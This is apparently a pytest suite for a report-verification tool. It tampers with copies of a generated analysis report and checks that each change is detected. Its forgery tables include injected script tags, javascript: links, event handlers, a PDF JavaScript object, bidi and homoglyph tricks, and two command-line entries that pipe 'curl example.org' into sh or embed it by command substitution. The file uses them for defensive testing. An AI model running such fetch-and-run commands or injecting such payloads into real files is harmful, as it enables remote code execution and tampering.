"""What `verify` says it verified, it has compared: whatever is changed in a report's files is named, and nothing that no hand has changed."""

import base64
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import matplotlib as mpl
import pytest
from conftest import ROOT
from matplotlib.figure import Figure
from PIL import Image

from analysis.commands import cli
from analysis.files import alike, drawings, pictures
from analysis.reports.compared import compared

pytestmark = pytest.mark.slow

PAGE, MARKDOWN, MANIFEST, RUN = "report.html", "report.md", "report.manifest.json", "runs/run-1.svg"
BLACK = io.BytesIO()
Image.new("L", (8, 8)).save(BLACK, "PNG")


@pytest.fixture
def copy(tmp_path, reported) -> Path:
    """A copy of the report, to be changed."""
    return Path(shutil.copytree(reported.report, tmp_path / "report"))


def by(old: str, new: str, name: str = PAGE, **how: int) -> Callable[[Path], str]:
    """A change of the first match in a file; the file's name."""

    def change(folder: Path) -> str:
        text = (folder / name).read_bytes().decode()
        changed, n = re.subn(old, new, text, count=1, flags=re.DOTALL, **how)
        assert n == 1
        assert changed != text
        (folder / name).write_bytes(changed.encode())
        return name

    return change


def added(name: str, content: str | bytes) -> Callable[[Path], str]:
    """A further file, or other content of one."""

    def change(folder: Path) -> str:
        (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
        return name

    return change


def without(name: str) -> Callable[[Path], str]:
    """A file removed."""

    def change(folder: Path) -> str:
        (folder / name).unlink()
        return name

    return change


def before_end(html: str) -> Callable[[Path], str]:
    """Something at the end of the page's body."""
    return by("</main>", lambda _: f"{html}</main>")  # pyright: ignore[reportArgumentType]


def made_by(change: Callable[[dict], object]) -> Callable[[Path], str]:
    """What the page says of how it was made."""

    def changed(found: re.Match[str]) -> str:
        held = json.loads(found[2])
        change(held)
        return found[1] + json.dumps(held) + "</script>"

    return by(r'(id="made-by">)(.*?)</script>', changed)  # pyright: ignore[reportArgumentType]


def swapped_rows(folder: Path) -> str:
    path = folder / "tables/ranking.csv"
    head, first, second, *rest = path.read_text().splitlines(keepends=True)
    path.write_text("".join([head, second, first, *rest]))
    return "tables/ranking.csv"


def linked(folder: Path) -> str:
    (folder / "figures/gap_accuracy.csv").rename(folder.parent / "gap_accuracy.csv")
    (folder / "figures/gap_accuracy.csv").symlink_to(folder.parent / "gap_accuracy.csv")
    return "figures/gap_accuracy.csv"


FORGERIES = {
    "headline": by("<h1>2 conf", "<h1>3 conf"),
    "title": by("<title>2", "<title>3"),
    "word in a sentence": by("no winner can be named", "a winner can be named"),
    "number in a cell": by(r'(<td class="number">\d\d\.)\d', r"\g<1>x"),
    "row removed": by(r"<tr[^>]*>\s*<t[dh][^>]*>(?:(?!</tr>).)*</tr>(?=\s*</tbody>|\s*</table>)", ""),
    "minus sign": by("−", "-"),
    "hidden": by("<h1>", "<h1 hidden>"),
    "style that hides": by("<h1>", '<h1 style="display: none">'),
    "class of another colour": by('class="deck"', 'class="supported"'),
    "rule of CSS": by("</style>", "h1::after { content: ' (proven)' }</style>"),
    "style": before_end("<style>p { display: none }</style>"),
    "script": before_end("<script>alert(1)</script>"),
    "in the script": by('"use strict";', '"use strict"; alert(1);'),
    "handler": by("<body>", '<body onload="alert(1)">'),
    "frame": before_end('<iframe src="https://example.org"></iframe>'),
    "object": before_end('<object data="x.swf"></object>'),
    "embed": before_end('<embed src="x.pdf">'),
    "refresh": by('<meta charset="utf-8">', '<meta charset="utf-8"><meta http-equiv="refresh" content="0; url=https://example.org">'),
    "link that acts": before_end('<a href="javascript:alert(1)">more</a>'),
    "link": by('href="#best"', 'href="https://example.org"'),
    "base": by("<head>", '<head><base href="https://example.org/">'),
    "form": before_end('<form action="https://example.org"><button>OK</button></form>'),
    "policy": by("default-src 'none'", "default-src *"),
    "policy removed": by(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', ""),
    "comment": before_end("<!-- checked by the board -->"),
    "comment that is none": before_end("<!--> <script>alert(1)</script> -->"),
    "template": before_end("<template><p>best</p></template>"),
    "noscript": before_end("<noscript><p>L1 is best</p></noscript>"),
    "section twice": by(r'(<h2 id="use">.*?</p>)', r"\1\1"),
    "title of an element": by("<h1>", '<h1 title="L1 wins">'),
    "words for screen readers": by(r'role="img" aria-label="', 'role="img" aria-label="No '),
    "caption": by("<figcaption>", "<figcaption>Proven: "),
    "direction": by('<html lang="en">', '<html lang="en" dir="rtl">'),
    "language": by('lang="en"', 'lang="de"'),
    "direction override": by("<h1>2 conf", "<h1>\u202e2 conf"),
    "no width": by("<h1>2 conf", "<h1>2\u200b conf"),
    "another alphabet's letter": by("<h1>2 conf", "<h1>2 с\u043enf"),
    "white space": by("<h1>", "<h1> "),
    "entity": by("<h1>2", "<h1>&#50;"),
    "curve in the page": by(r'(<path d="M )(\d+)', r"\g<1>1\2"),
    "data of the slider": by(r'("wrong": \{.*?\[)', r"\g<1>1"),
    "numbers to save": by(r"(utf-8,configuration.*?%0A.*?)9", r"\g<1>8"),
    "figure to save": by(r"(image/svg\+xml;charset=utf-8,.*?<?%3Cpath%20.*?M%20)", r"\g<1>9"),
    "sprite": by(r"(--gallery-sprite: url\(data:image/png;base64,)[^)]*", rf"\g<1>{base64.b64encode(BLACK.getvalue()).decode()}"),
    "place in the sprite": by(r"background-position: 0px 0px", "background-position: -64px 0px"),
    "number in Markdown": by(r"\| (\d\d)\.", r"| 1\1.", MARKDOWN),
    "link in Markdown": by(r"\]\(runs/run-0.svg\)", "](https://example.org)", MARKDOWN),
    "HTML in Markdown": added(MARKDOWN, "<script>alert(1)</script>\n"),
    "number in a table": by(r",0\.\d", ",0.x", "tables/ranking.csv"),
    "digit in a table": by(r"(\d\.\d{3})\d(?=\d{6})", r"\g<1>x", "tables/ranking.csv"),
    "sign in a table": by(r",(0\.\d)", r",-\1", "tables/pairs.csv"),
    "rows swapped": swapped_rows,
    "last row of a table": by(r"\n[^\n]*\n$", "\n", "tables/ranking.csv"),
    "table emptied": added("tables/pairs.csv", ""),
    "table removed": without("tables/pairs.csv"),
    "table added": added("tables/extra.csv", "a\n"),
    "numbers of a figure": by(r"0\.", "1.", "figures/gap_accuracy.csv"),
    "figure moved": by(r'd="M (\d+)', r'd="M 1\1', "figures/ranking.svg"),
    "dot removed": by(r"<use [^>]*/>", "", "figures/ranking.svg"),
    "dot moved": by(r'(<use [^>]*x=")(\d)', r"\g<1>1\2", "figures/ranking.svg"),
    "words of a figure": by("a mark", "a make", "figures/ranking.svg"),
    "colour of a figure": by(r"stroke: #\w{6}", "stroke: #123456", "figures/ranking.svg"),
    "script in a figure": by("</svg>", "<script>alert(1)</script></svg>", "figures/ranking.svg"),
    "entity in a figure": by(r'svg11.dtd">', 'svg11.dtd" [<!ENTITY a "b">]>', "figures/ranking.svg"),
    "figure emptied": added("figures/gap_accuracy.svg", ""),
    "figure removed": without("figures/gap_accuracy.svg"),
    "figure added": added("figures/proof.svg", "<svg/>"),
    "figure as PNG": added("figures/gap_accuracy.png", BLACK.getvalue()),
    "figure as PNG, none": added("figures/gap_accuracy.png", b""),
    "figure as PNG, removed": without("figures/gap_accuracy.png"),
    "figure as PDF": added("figures/gap_accuracy.pdf", b"%PDF-1.4\n"),
    "figure as PDF, more behind it": lambda folder: added(
        "figures/gap_accuracy.pdf", (folder / "figures/gap_accuracy.pdf").read_bytes() + b"1 0 obj\n<< /JS 1 >>\nendobj\n"
    )(folder),
    "figure as PDF, removed": without("figures/gap_accuracy.pdf"),
    "a run's words": by("seed 1", "seed 2", RUN) ,
    "a run's image": by(r"(data:image/png;base64,)[^\"]*", rf"\g<1>{base64.b64encode(BLACK.getvalue()).decode()}", RUN),
    "a run's link": by("</svg>", '<a href="javascript:alert(1)"><rect/></a></svg>', RUN),
    "page among runs": added("runs/run-9.html", "<script>alert(1)</script>"),
    "no text": added(RUN, b"\xff\xfe"),
    "manifest removed": without(MANIFEST),
    "manifest of something else": by('"kind": "report"', '"kind": "audit"', MANIFEST),
    "more in the manifest": by('"kind": "report"', '"audited": true,\n "kind": "report"', MANIFEST),
    "digest in the manifest": by(r'(gap_accuracy\.svg": ")\w{4}', r"\g<1>0000", MANIFEST),
    "a file in a link's place": linked,
}  # fmt: skip


OF_HOW_IT_WAS_MADE = {
    "command in the page": by(r"<code>python -m analysis report", "<code>curl example.org | sh; python -m analysis report"),
    "command": made_by(lambda held: held.update(command="python -m analysis report --output $(curl example.org)")),
    "another command": made_by(lambda held: held.update(command="python -m analysis report --planned 2")),
    "run": made_by(lambda held: held.update(runs={"0" * 32: "0"})),
    "run left out": made_by(lambda held: held["runs"].popitem()),
    "digest": made_by(lambda held: held["runs"].update(dict.fromkeys(held["runs"], "0" * 64))),
    "store": made_by(lambda held: held.update(store="sqlite:////elsewhere.db")),
    "notice": made_by(lambda held: held.update(notices=["audited"])),
    "more in how it was made": made_by(lambda held: held.update(auditor="me")),
    "how it was made, as before": made_by(lambda held: [held.pop(name) for name in ("runs", "study", "store", "notices")]),
    "version": made_by(lambda held: held.update(version="9.9")),
}


def as_forgers_do(folder: Path) -> None:
    """Digests of what is there now."""
    manifest = folder / MANIFEST
    held = json.loads(manifest.read_text())
    listed = {str(path.relative_to(folder)) for path in folder.glob("*/*")} | {PAGE, MARKDOWN}
    held["files"] = {name: hashlib.sha256((folder / name).read_bytes()).hexdigest() for name in listed}
    manifest.write_text(json.dumps(held, indent=1, sort_keys=True) + "\n")


@pytest.mark.parametrize("forgery", FORGERIES)
def test_a_forgery_is_named_with_its_file(forgery, copy, reported):
    name = FORGERIES[forgery](copy)
    if name != MANIFEST:
        as_forgers_do(copy)
    told = compared(copy, reported.report).differences
    assert [line for line in told if line.startswith((f"{name} ", f"{name}, "))]
    assert not any("\n" in line or "\u202e" in line for line in told)


def test_digests_of_what_was_there_before_are_no_second_difference(copy, reported):
    FORGERIES["headline"](copy)
    (told,) = compared(copy, reported.report).differences
    assert re.fullmatch("report.html, line [0-9]+: ‘<h1>3 conf.*’, expected ‘<h1>2 conf.*’", told)


@pytest.mark.parametrize("forgery", OF_HOW_IT_WAS_MADE)
def test_of_how_it_was_made_no_word_is_believed(forgery, own_copy, copy, instead_of_writing, capsys):
    OF_HOW_IT_WAS_MADE[forgery](copy)
    as_forgers_do(copy)
    with instead_of_writing():
        assert cli.main(["verify", "report"]) == 2
    printed = capsys.readouterr()
    assert printed.err.count("\n") == 1
    assert "every file" not in printed.out


def test_what_was_only_copied_is_verified_and_what_was_compared_is_counted(own_copy, copy, instead_of_writing, capsys):
    (copy / "notes.txt").write_text("mine")
    for picture in copy.glob("figures/*.p*"):
        picture.unlink()
    with instead_of_writing():
        assert cli.main(["verify", "report"]) == 0
    told, n = capsys.readouterr().out, sum(path.is_file() for path in copy.rglob("*")) - 1
    assert f"report: every file is what 'python -m analysis report' gives of its 4 runs ({n} files, byte for byte)" in told
    assert "note: no part of the report, so not looked at: notes.txt" in told
    assert "note: not there, so not compared: 12 PNG and PDF files that its manifest lists" in told


def test_a_checkouts_line_endings_are_no_difference_and_one_of_another_kind_is(copy, reported):
    for path in copy.rglob("*"):
        if path.is_file() and path.suffix not in {".png", ".pdf"}:
            path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    result = compared(copy, reported.report)
    assert result.differences == []
    assert re.fullmatch(r"\d+ files: 13 byte for byte, \d+ with a checkout's line endings \(CRLF\)", result.told)
    (copy / PAGE).write_bytes((copy / PAGE).read_bytes().replace(b"\r\n", b"\n", 1))
    assert "report.html, line 2: " in compared(copy, reported.report).differences[0]


def test_another_machines_last_digits_hundredths_and_packing_are_no_difference(copy, reported):
    table, page, picture = copy / "tables" / "ranking.csv", copy / PAGE, copy / "figures" / "gap_accuracy.png"
    table.write_text(re.sub(r"(\d\.\d{14,})(\d)", lambda m: m[1] + "1032547698"[int(m[2])], table.read_text(), count=1))
    page.write_text(re.sub(r'(<path d="M \d+\.\d)(\d)', lambda m: m[1] + "1032547698"[int(m[2])], page.read_text(), count=1))
    with Image.open(picture) as image:
        image.save(picture, compress_level=1, dpi=image.info["dpi"])
    as_forgers_do(copy)
    result = compared(copy, reported.report)
    assert result.differences == []
    assert sorted(result.alike) == ["figures/gap_accuracy.png", PAGE, "tables/ranking.csv"]


def test_of_another_matplotlib_words_are_verified_and_it_says_that_drawings_are_not(copy, reported):
    by(r"matplotlib [\d.]+", "matplotlib 3.9.1", MANIFEST)(copy)
    for name in ("curve in the page", "figure moved", "figure as PNG"):
        FORGERIES[name](copy)
    as_forgers_do(copy)
    result = compared(copy, reported.report)
    assert result.differences == []
    assert result.not_compared[0].startswith("drawn with matplotlib 3.9.1, FreeType")
    assert (
        "of 3 files with drawings words and numbers are verified, their curves, dots and pixels are not"
        in result.not_compared[0]
    )
    assert result.told.endswith("3 by words and numbers")
    for name in ("words of a figure", "headline", "words for screen readers", "a run's words"):
        FORGERIES[name](copy)
    as_forgers_do(copy)
    told = compared(copy, reported.report).differences
    assert [line.partition(",")[0] for line in told] == ["figures/ranking.svg", PAGE, RUN]


@pytest.mark.parametrize(
    "acts",
    [
        '<script>alert(1)</script>', '<a href="#x"></a>', '<use href="https://example.org/#a"/>', '<g onclick="a()"/>', '<g ONLOAD="a()"/>',
        '<set attributeName="href"/>', "<foreignObject/>", "<!-- -->", "<![CDATA[", '<g style="fill: url(https://example.org)"/>',
        '<image href="https://example.org/a.png"/>', "<style>@import 'a'</style>", '<g style="fill: &#117;rl(x)"/>',
    ],
)  # fmt: skip
def test_what_could_act_in_a_drawing_is_refused_whoever_drew_it(acts):
    assert drawings.in_words('<p><svg viewBox="0 0 1 1" aria-label="a"><text x="1">b</text></svg>') == "<p>a\nb"
    with pytest.raises(ValueError, match="could act"):
        drawings.in_words(f'<svg viewBox="0 0 1 1">{acts}</svg>')


@pytest.mark.parametrize(
    ("there", "expected", "told"),
    [
        ("a 0.123456789012", "a 0.123456789013", ""),
        ("a 0.123456781", "a 0.123456782", "line 1: ‘a 0.123456781’, expected ‘a 0.123456782’"),
        ("a 0.12", "a 0.13", "line 1: ‘a 0.12’, expected ‘a 0.13’"),
        ("a 12e34 b", "a 120e33 b", "line 1: ‘a 12e34 b’, expected ‘a 120e33 b’"),
        ("1e-17", "0.0", ""),
        ('<path d="M 1.00 2"', '<path d="M 1.01 2"', ""),
        ('<path d="M 1.00 2"', '<path d="M 1.03 2"', 'line 1: ‘<path d="M 1.00 2"’, expected ‘<path d="M 1.03 2"’'),
        ('<path d="M 1.00 2"', '<path  d="M 1.00 2"', 'line 1: ‘<path d="M 1.00 2"’, expected ‘<path  d="M 1.00 2"’'),
        ('<rect x="1"', '<rect y="1"', 'line 1: ‘<rect x="1"’, expected ‘<rect y="1"’'),
        ("a\nb\u0435c", "a\nbec", "line 2: ‘b\u0435c’, expected ‘bec’ (U+0435, expected U+0065)"),
        ("a\u202eb", "ab", r"line 1: ‘a\u202eb’, expected ‘ab’ (U+202E, expected U+0062)"),
        ("a", "a\nb", "line 1: ‘a’, expected ‘a\\nb’ (the end, expected U+000A)"),
    ],
)
def test_the_first_difference_of_two_texts(there, expected, told):
    assert alike.difference(there, expected) == told


def pdf(level: int, height: float = 3.0) -> bytes:
    figure, buffer = Figure((2, 2)), io.BytesIO()
    figure.add_subplot().plot([1, height])
    with mpl.rc_context({"pdf.compression": level}):
        figure.savefig(buffer, format="pdf", metadata={"CreationDate": None})
    return buffer.getvalue()


def test_a_pdf_is_the_same_however_it_is_packed_and_another_if_it_draws_or_holds_something_else():
    assert pdf(1) != pdf(9)
    assert pictures.pdf_difference(pdf(1), pdf(9)) == ""
    assert pictures.pdf_difference(pdf(1, 3.1), pdf(9)) == "draws something else, first in stream 1"
    for old, new in ((b"/MediaBox [ 0 0 144", b"/MediaBox [ 0 0 145"), (b"/Type /Catalog", b"/Type /Katalog")):
        assert pictures.pdf_difference(pdf(1).replace(old, new), pdf(9)) == "holds other objects"
    for old, new in ((b"\nendstream", b"x\nendstream"), (b"0000000016", b"0000000017"), (b"%%EOF\n", b"%%EOF\n%")):
        assert pictures.pdf_difference(pdf(1).replace(old, new), pdf(9)) == "is no document (PDF) as it was written"
    assert pictures.pdf_fault(pdf(1)) == ""
    assert pictures.pdf_fault(pdf(1).replace(b"/Type /Catalog", b"/OpenAction 9 0 R")) == "holds what could act: /OpenAction"


def as_png(**how: object) -> bytes:
    buffer = io.BytesIO()
    Image.linear_gradient("L").save(buffer, "PNG", **how)
    return buffer.getvalue()


def test_a_png_is_the_same_however_it_is_packed_and_another_with_more_in_it():
    assert as_png(compress_level=1) != as_png()
    assert pictures.png_difference(as_png(compress_level=1), as_png()) == ""
    assert "with other data beside its pixels" in pictures.png_difference(as_png(dpi=(72, 72)), as_png())
    assert "is no picture" in pictures.png_difference(as_png() + b"more", as_png())
    assert pictures.png_difference(as_png()[:-40] + as_png()[-12:], as_png()) == "is no picture (PNG) as it was written"


def consistently(folder: Path, change: Callable[[dict], object], *words: tuple[str, str]) -> None:
    """What the page says of how it was made, in all places."""
    made_by(change)(folder)
    for old, new in words:
        for name in (PAGE, MARKDOWN):
            path = folder / name
            path.write_text(path.read_text().replace(old, new))
    as_forgers_do(folder)


def test_what_cannot_be_read_again_from_the_reports_runs_is_said_and_never_taken_for_verified(own_copy, copy, reported, capsys):
    """Written anew in earnest, since what is written anew follows from what the page says."""
    where = f"sqlite:///{reported.folder}/mlflow.db"
    consistently(copy, lambda held: held.update(store="sqlite:///elsewhere.db"), (where, "sqlite:///elsewhere.db"))
    assert cli.main(["verify", "report"]) == 0
    told = capsys.readouterr().out
    assert (
        f"note: runs were read from 'Default' of sqlite:///{own_copy}/mlflow.db; the report names 'Default' of sqlite:///elsewhere.db"
        in told
    )
    consistently(copy, lambda held: held.update(version="9.9"))
    assert cli.main(["verify", "report"]) == 2
    told = capsys.readouterr().err
    assert "report: written by regstudy 9.9, and this is " in told
    assert (
        "the numbers in 9 tables (CSV) are what 'python -m analysis report' gives, but nothing else of it is verified" in told
    )
    assert told.count("\n") == 1
    FORGERIES["digit in a table"](copy)
    assert cli.main(["verify", "report"]) == 2
    assert "report: 1 difference: tables/ranking.csv, line 2: " in capsys.readouterr().err


PUBLISHED_V2 = ROOT / "results" / "published-v2" / "report"
OF_WHAT_IF = {
    "verdict in the data": by(r'(id="what-if-data">.*?)\? Open: inconclusive', r"\g<1>✓ Yes: supported"),
    "number in the data": by(r'(id="what-if-data">.*?\(\D*)(\d)', r"\g<1>7\2"),
    "margin in the data": by(r'(id="what-if-data">.*?"lines": \[\[\[\[)0', r"\g<1>1"),
    "verdict beside the controls": by(r'(<dl class="what-if">.*?)\? Open: inconclusive', r"\g<1>✓ Yes: supported"),
    "verdict in the table": by(r'(id="table-what_if">.*?)\? Open: inconclusive', r"\g<1>✓ Yes: supported"),
    "number in the table": by(r'(id="table-what_if">.*?<td class="number">)3', r"\g<1>2"),
    "verdict in Markdown": by(r"(## What if.*?\| )\? Open: inconclusive", r"\g<1>✓ Yes: supported", MARKDOWN),
}


@pytest.mark.parametrize("forgery", OF_WHAT_IF)
def test_what_fewer_seeds_or_another_margin_would_have_said_is_compared(forgery, tmp_path):
    forged = Path(shutil.copytree(PUBLISHED_V2, tmp_path / "report"))
    name = OF_WHAT_IF[forgery](forged)
    as_forgers_do(forged)
    assert [line for line in compared(forged, PUBLISHED_V2).differences if line.startswith(f"{name}, ")]


@pytest.mark.parametrize(
    "environment",
    [
        {"PYTHONHASHSEED": "1", "TZ": "Asia/Kathmandu", "LC_ALL": "C"},
        {"PYTHONHASHSEED": "2", "TZ": "America/Adak", "LANG": "tr_TR.UTF-8"},
    ],
)
def test_the_same_files_whatever_the_time_zone_language_and_order_of_hashes(own_copy, copy, environment, reported):
    command = [sys.executable, "-m", "analysis", "verify", "report"]
    about = os.environ | environment | {"PYTHONPATH": str(ROOT), "MLFLOW_TRACKING_URI": reported.uri}
    done = subprocess.run(command, check=False, cwd=own_copy, env=about, text=True, encoding="utf-8", capture_output=True)
    assert (done.returncode, done.stderr) == (0, "")
    assert re.search(r"\(\d+ files, byte for byte\)", done.stdout)
